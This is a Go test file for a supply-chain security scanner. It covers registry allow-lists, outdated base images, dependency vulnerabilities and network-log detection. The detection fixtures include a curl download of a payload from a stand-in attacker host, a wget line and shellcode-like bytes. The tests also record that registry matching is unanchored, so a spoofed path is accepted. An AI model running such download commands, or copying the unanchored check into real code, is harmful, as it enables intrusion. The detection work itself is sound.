package security

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/mock"
	"github.com/stretchr/testify/require"
	"github.com/threatflux/supplyChainScannerGo/internal/models"
)

var fixedTime = time.Date(2024, 2, 13, 12, 0, 0, 0, time.UTC)

func fixedClock() time.Time { return fixedTime }

func strPtr(s string) *string { return &s }

// mockLookup is a mock VulnerabilityLookup
type mockLookup struct {
	mock.Mock
}

func (m *mockLookup) Lookup(ctx context.Context, pkg, version string) ([]models.Vulnerability, error) {
	args := m.Called(ctx, pkg, version)
	vulns, _ := args.Get(0).([]models.Vulnerability)
	return vulns, args.Error(1)
}

// stubChecker flags exactly the listed images
type stubChecker map[string]bool

func (s stubChecker) IsOutdatedBaseImage(image string) bool { return s[image] }

func TestSourcePolicy_IsApprovedSource(t *testing.T) {
	policy := NewSourcePolicy([]string{"registry.fedex.com", "gcr.io/fedex-prod", " ", "docker.io/fedex"})

	assert.True(t, policy.IsApprovedSource("registry.fedex.com/base-image"))
	assert.True(t, policy.IsApprovedSource("gcr.io/fedex-prod/app:1.0"))
	// Substring match is not anchored
	assert.True(t, policy.IsApprovedSource("evil.example.com/registry.fedex.com/app"))
	assert.False(t, policy.IsApprovedSource("docker.io/library/nginx"))
	assert.False(t, policy.IsApprovedSource(""))
	assert.Len(t, policy.Approved(), 3)
}

func TestReferenceChecker(t *testing.T) {
	checker, err := NewReferenceChecker([]string{"ubuntu:18.04", "centos", "docker.io/library/debian:stretch"})
	require.NoError(t, err)

	testCases := []struct {
		image    string
		outdated bool
	}{
		{"ubuntu:18.04", true},
		{"docker.io/library/ubuntu:18.04", true},
		{"ubuntu:22.04", false},
		{"ubuntu", false},
		{"centos:7", true},
		{"centos", true},
		{"debian:stretch", true},
		{"debian:bookworm", false},
		{"registry.example.com/ubuntu:18.04", false},
		{"NOT A REFERENCE", false},
	}

	for _, tc := range testCases {
		t.Run(tc.image, func(t *testing.T) {
			assert.Equal(t, tc.outdated, checker.IsOutdatedBaseImage(tc.image))
		})
	}

	_, err = NewReferenceChecker([]string{"Invalid Image"})
	assert.Error(t, err)
}

func TestContainerManifestEvaluator_Evaluate(t *testing.T) {
	policy := NewSourcePolicy([]string{"registry.fedex.com", "gcr.io/fedex-prod", "docker.io/fedex"})

	testCases := []struct {
		name     string
		manifest models.ContainerManifest
		checker  BaseImageChecker
		verify   func(t *testing.T, alerts []models.Alert)
	}{
		{
			name: "no base image and approved sources",
			manifest: models.ContainerManifest{
				ImageSources: []string{"registry.fedex.com/base-image", "docker.io/fedex/app"},
			},
			verify: func(t *testing.T, alerts []models.Alert) {
				assert.Empty(t, alerts)
				assert.NotNil(t, alerts)
			},
		},
		{
			name: "stub checker never flags base image",
			manifest: models.ContainerManifest{
				BaseImage:    strPtr("ubuntu:latest"),
				ImageSources: []string{"registry.fedex.com/base-image"},
			},
			verify: func(t *testing.T, alerts []models.Alert) {
				assert.Empty(t, alerts)
			},
		},
		{
			name: "unapproved sources in order",
			manifest: models.ContainerManifest{
				ImageSources: []string{"quay.io/a", "registry.fedex.com/ok", "docker.io/library/b", "ghcr.io/c"},
			},
			verify: func(t *testing.T, alerts []models.Alert) {
				require.Len(t, alerts, 3)
				expected := []string{"quay.io/a", "docker.io/library/b", "ghcr.io/c"}
				for i, a := range alerts {
					assert.Equal(t, models.SeverityMedium, a.Severity)
					assert.Equal(t, "Supply Chain Security", a.Category)
					assert.Equal(t, "Container Image Source", a.AffectedComponent)
					assert.Equal(t, "Unauthorized image source detected: "+expected[i], a.Description)
					assert.Equal(t, "Use only approved container registries", a.Recommendation)
					assert.Equal(t, fixedTime, a.Timestamp)
				}
			},
		},
		{
			name: "outdated base image comes first",
			manifest: models.ContainerManifest{
				BaseImage:    strPtr("ubuntu:14.04"),
				ImageSources: []string{"quay.io/a"},
			},
			checker: stubChecker{"ubuntu:14.04": true},
			verify: func(t *testing.T, alerts []models.Alert) {
				require.Len(t, alerts, 2)
				assert.Equal(t, models.SeverityHigh, alerts[0].Severity)
				assert.Equal(t, "Container Security", alerts[0].Category)
				assert.Equal(t, "Container Base Image", alerts[0].AffectedComponent)
				assert.Equal(t, "Outdated base image detected: ubuntu:14.04", alerts[0].Description)
				assert.Equal(t, models.SeverityMedium, alerts[1].Severity)
			},
		},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			evaluator := NewContainerManifestEvaluator(tc.checker, policy, fixedClock, logrus.New())
			alerts, err := evaluator.Evaluate(tc.manifest)
			require.NoError(t, err)
			tc.verify(t, alerts)
		})
	}
}

func TestDependencyEvaluator_NoopLookup(t *testing.T) {
	evaluator := NewDependencyEvaluator(nil, fixedClock, logrus.New())

	alerts, err := evaluator.Evaluate(context.Background(), models.DependencyMap{
		{Package: "requests", Version: "2.25.1"},
		{Package: "pytest", Version: "6.2.4"},
		{Package: "", Version: "??"},
	})
	require.NoError(t, err)
	assert.Empty(t, alerts)
}

func TestDependencyEvaluator_Evaluate(t *testing.T) {
	lookup := &mockLookup{}
	lookup.On("Lookup", mock.Anything, "requests", "2.25.1").Return([]models.Vulnerability{
		{Severity: "HIGH", SafeVersion: "2.31.0"},
		{Severity: "low", SafeVersion: "2.26.0"},
	}, nil)
	lookup.On("Lookup", mock.Anything, "pytest", "6.2.4").Return([]models.Vulnerability(nil), nil)
	lookup.On("Lookup", mock.Anything, "flask", "1.0").Return([]models.Vulnerability{
		{Severity: "MEDIUM", SafeVersion: "2.2.5"},
	}, nil)

	evaluator := NewDependencyEvaluator(lookup, fixedClock, logrus.New())
	alerts, err := evaluator.Evaluate(context.Background(), models.DependencyMap{
		{Package: "requests", Version: "2.25.1"},
		{Package: "pytest", Version: "6.2.4"},
		{Package: "flask", Version: "1.0"},
	})
	require.NoError(t, err)
	require.Len(t, alerts, 3)

	assert.Equal(t, models.SeverityHigh, alerts[0].Severity)
	assert.Equal(t, "Dependency Security", alerts[0].Category)
	assert.Equal(t, "Vulnerability found in requests version 2.25.1", alerts[0].Description)
	assert.Equal(t, "Package: requests", alerts[0].AffectedComponent)
	assert.Equal(t, "Upgrade to version 2.31.0", alerts[0].Recommendation)

	assert.Equal(t, models.SeverityLow, alerts[1].Severity)
	assert.Equal(t, "Upgrade to version 2.26.0", alerts[1].Recommendation)

	assert.Equal(t, models.SeverityMedium, alerts[2].Severity)
	assert.Equal(t, "Package: flask", alerts[2].AffectedComponent)

	lookup.AssertExpectations(t)
}

func TestDependencyEvaluator_Errors(t *testing.T) {
	testCases := []struct {
		name    string
		vulns   []models.Vulnerability
		lookErr error
		target  error
	}{
		{
			name:   "unknown severity",
			vulns:  []models.Vulnerability{{Severity: "CRITICAL", SafeVersion: "1.1"}},
			target: models.ErrInvalidSeverity,
		},
		{
			name:   "missing safe version",
			vulns:  []models.Vulnerability{{Severity: "HIGH"}},
			target: models.ErrInvalidVulnerability,
		},
		{
			name:    "lookup failure",
			lookErr: errors.New("database unavailable"),
		},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			lookup := &mockLookup{}
			lookup.On("Lookup", mock.Anything, "pkg", "1.0").Return(tc.vulns, tc.lookErr)

			evaluator := NewDependencyEvaluator(lookup, fixedClock, logrus.New())
			alerts, err := evaluator.Evaluate(context.Background(), models.DependencyMap{{Package: "pkg", Version: "1.0"}})
			require.Error(t, err)
			assert.Nil(t, alerts)
			if tc.target != nil {
				assert.ErrorIs(t, err, tc.target)
			}
			if tc.lookErr != nil {
				assert.ErrorIs(t, err, tc.lookErr)
			}
		})
	}
}

func TestStaticLookup(t *testing.T) {
	lookup := NewStaticLookup(Advisories{
		"lodash": {"4.17.15": {{ID: "CVE-2020-8203", Severity: "HIGH", SafeVersion: "4.17.19"}}},
	})

	vulns, err := lookup.Lookup(context.Background(), "lodash", "4.17.15")
	require.NoError(t, err)
	require.Len(t, vulns, 1)
	assert.Equal(t, "4.17.19", vulns[0].SafeVersion)

	vulns, err = lookup.Lookup(context.Background(), "lodash", "4.17.21")
	require.NoError(t, err)
	assert.Empty(t, vulns)

	vulns, err = lookup.Lookup(context.Background(), "express", "4.0.0")
	require.NoError(t, err)
	assert.Empty(t, vulns)
}

func TestNetworkLogEvaluator_Evaluate(t *testing.T) {
	testCases := []struct {
		name   string
		lines  []string
		labels []string
	}{
		{
			name:   "ip address",
			lines:  []string{"2024-02-13 12:00:00 - Suspicious connection from 192.168.1.100"},
			labels: []string{"Suspicious IP address detected"},
		},
		{
			name:   "out of range octets still match",
			lines:  []string{"peer 999.999.999.999 connected"},
			labels: []string{"Suspicious IP address detected"},
		},
		{
			name:  "normal traffic",
			lines: []string{"2024-02-13 12:01:00 - Normal traffic"},
		},
		{
			name:   "download attempt",
			lines:  []string{"exec: curl   https://evil.example/payload.sh"},
			labels: []string{"Unauthorized download attempt detected"},
		},
		{
			name:  "download without url",
			lines: []string{"wget is installed"},
		},
		{
			name:   "shellcode",
			lines:  []string{`payload \x90\x90\x90\x90\xcc`},
			labels: []string{"Potential shellcode detected detected"},
		},
		{
			name:  "three escapes are not shellcode",
			lines: []string{`payload \x90\x90\x90`},
		},
		{
			name:  "all three rules on one line in fixed order",
			lines: []string{`wget http://10.0.0.1/x \x41\x41\x41\x41`},
			labels: []string{
				"Suspicious IP address detected",
				"Unauthorized download attempt detected",
				"Potential shellcode detected detected",
			},
		},
		{
			name:   "repeated match on one line counts once",
			lines:  []string{"1.1.1.1 -> 2.2.2.2 -> 3.3.3.3"},
			labels: []string{"Suspicious IP address detected"},
		},
		{
			name:   "each line evaluated independently",
			lines:  []string{"from 10.0.0.1", "", "to 10.0.0.2"},
			labels: []string{"Suspicious IP address detected", "Suspicious IP address detected"},
		},
	}

	evaluator := NewNetworkLogEvaluator(fixedClock, logrus.New())
	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			alerts, err := evaluator.Evaluate(tc.lines)
			require.NoError(t, err)
			require.Len(t, alerts, len(tc.labels))
			for i, a := range alerts {
				assert.Equal(t, tc.labels[i], a.Description)
				assert.Equal(t, models.SeverityHigh, a.Severity)
				assert.Equal(t, "Network Security", a.Category)
				assert.Equal(t, "Network Traffic", a.AffectedComponent)
				assert.Equal(t, "Investigate suspicious network activity", a.Recommendation)
			}
		})
	}
}
